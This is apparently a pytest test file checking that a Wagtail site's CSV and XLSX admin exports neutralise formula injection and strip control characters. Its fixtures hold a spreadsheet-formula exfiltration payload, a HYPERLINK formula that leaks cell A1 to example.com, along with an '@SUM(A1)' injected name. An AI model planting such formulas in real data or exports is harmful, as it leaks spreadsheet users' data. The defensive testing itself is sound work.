"""Wagtail's own CSV and XLSX downloads (site history, snippet listings, the page reports) write
text the way ours do: a name that starts like a formula is written as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from django.urls import URLPattern, URLResolver, get_resolver

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from core.spreadsheets import FORMULA_STARTS
from tests.factories import DistrictFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Biên Hòa")'
SITE_HISTORY = "/admin/reports/site-history/"
UNITS = "/admin/snippets/taxonomy/administrativeunit/"


@pytest.fixture
def formula_world(client, django_user_model, province):
    """A superuser and a unit both named like formulas, and the unit's creation in the log."""
    user = django_user_model.objects.create_superuser(
        "quan-tri", "qt@example.vn", "x", first_name="Lan", last_name="@SUM(A1)"
    )
    unit = DistrictFactory(code="731", name=FORMULA, parent=province)
    log(unit, "wagtail.create", user=user)
    client.force_login(user)
    return client


def csv_cells(response):
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


def xlsx_cells(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]


@pytest.mark.parametrize("url", [SITE_HISTORY, UNITS])
def test_csv_writes_a_formula_as_text(formula_world, url):
    cells = csv_cells(formula_world.get(url, {"export": "csv"}))
    assert f"'{FORMULA}" in " ".join(cells)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_the_user_name_in_site_history_is_text_too(formula_world):
    # Full names are shown family name first: "@SUM(A1) Lan".
    assert "'@SUM(A1) Lan" in csv_cells(formula_world.get(SITE_HISTORY, {"export": "csv"}))


@pytest.mark.parametrize("url", [SITE_HISTORY, UNITS])
def test_xlsx_keeps_the_name_as_a_text_cell(formula_world, url):
    cells = xlsx_cells(formula_world.get(url, {"export": "xlsx"}))
    named = [cell for cell in cells if FORMULA in str(cell.value)]
    assert named and all(cell.data_type == "s" for cell in named)


def test_a_control_character_in_a_name_does_not_break_the_xlsx(formula_world, province):
    DistrictFactory(code="732", name="Long\x01Khánh\x1f", parent=province)
    cells = xlsx_cells(formula_world.get(UNITS, {"export": "xlsx"}))
    assert "LongKhánh" in [cell.value for cell in cells]


def export_views(resolver=None):
    """Every view class in the URL configuration that offers Wagtail's spreadsheet download."""
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from export_views(pattern)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                yield view_class


def test_every_wagtail_download_in_the_admin_is_formula_safe():
    views = set(export_views())
    # Site history, the page reports, workflows, redirects and every snippet listing.
    assert len(views) > 10
    for view_class in views:
        view = view_class.__new__(view_class)  # the method needs no state of the view
        assert view.preprocess_field_value("label", "@SUM(A1)", "csv") == "'@SUM(A1)"
        assert view.preprocess_field_value("label", "Long\x01Khánh", "xlsx") == "LongKhánh"
        assert view.preprocess_field_value("count", 12, "csv") == 12
